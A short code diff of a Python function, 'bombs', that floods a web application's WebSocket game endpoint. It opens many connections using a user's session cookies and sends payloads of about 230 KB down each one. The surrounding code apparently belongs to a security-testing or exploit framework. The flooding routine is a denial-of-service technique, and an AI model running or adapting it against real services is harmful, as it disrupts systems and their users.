@@ -89,7 +89,8 @@ def bombs(target: Target, sockets: int = 20, size: int = 230_000) -> Fate:
         headers = {"Cookie": "; ".join(f"{name}={value}" for name, value in person.http.cookies.items())}
         address = f"ws://{target.host}/api/tables/{table}/play"
         with suppress(OSError, WebSocketException):
-            lines.append(connect(address, additional_headers=headers, max_queue=None))
+            line: Any = connect(address, additional_headers=headers, max_queue=None)
+            lines.append(line.__enter__())
     for line in lines:
         with suppress(OSError):
             line.socket.sendall(bomb * (size // len(bomb)))
